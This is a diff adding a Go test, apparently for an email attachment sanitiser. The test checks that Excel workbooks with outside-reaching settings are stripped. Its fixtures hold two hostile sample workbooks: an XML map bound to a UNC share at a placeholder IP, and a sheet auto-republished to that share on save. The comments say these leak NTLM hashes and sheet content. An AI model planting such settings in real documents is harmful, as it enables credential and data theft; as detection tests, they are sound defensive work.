@@ -1073,3 +1073,35 @@ func TestDocxDecoyRelationshipNotKept(t *testing.T) {
 	p, rep, _ := stripOne(t, attached{"案内.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", docx}, config.KeepRule{Extensions: []string{".docx"}})
 	wantStripped(t, p, rep, "document could not be fully inspected")
 }
+
+// TestXlsxOutsideSettingsNotKept: a workbook whose XML map is bound to a
+// file on a share, or whose sheet is published again as a web page to
+// a share each time it is saved, is not kept by a rule listing .xlsx:
+// Excel reads the map's source as it refreshes, and writes the page
+// (the NTLM hash, and the sheet's content) as the user saves. The
+// notice says it holds active content, as for a data connection.
+func TestXlsxOutsideSettingsNotKept(t *testing.T) {
+	workbook := func(workbookExtra string, extra ...[2]string) []byte {
+		parts := [][2]string{
+			{"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/xmlMaps.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.xmlMaps+xml"/></Types>`},
+			{"_rels/.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`},
+			{"xl/workbook.xml", `<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Sheet1" sheetId="1"/></sheets>` + workbookExtra + `</workbook>`},
+		}
+		return officePackage(t, append(parts, extra...)...)
+	}
+	for _, tt := range []struct {
+		name string
+		data []byte
+	}{
+		{"XML map bound to a share", workbook("", [2]string{"xl/xmlMaps.xml", `<?xml version="1.0"?><MapInfo xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><Map ID="1" Name="m" RootElement="r" SchemaID="S"><DataBinding DataBindingName="b" FileBinding="true" FileBindingName="\\192.0.2.1\s\data.xml" ConnectionID="1" DataBindingLoadMode="1"/></Map></MapInfo>`})},
+		{"republished to a share on saving", workbook(`<webPublishObjects count="1"><webPublishObject id="1" divId="a_1" sourceObject="Sheet1" destinationFile="\\192.0.2.1\s\p.htm" autoRepublish="1"/></webPublishObjects>`)},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			p, rep, out := stripOne(t, attached{"集計.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", tt.data}, config.KeepRule{Extensions: []string{".xlsx"}})
+			wantStripped(t, p, rep, "document with active or embedded content")
+			if text := decodedText(t, out); !strings.Contains(text, "スクリプトや埋め込みファイルを含む文書のため") {
+				t.Errorf("notice does not say it holds active content:\n%s", text)
+			}
+		})
+	}
+}
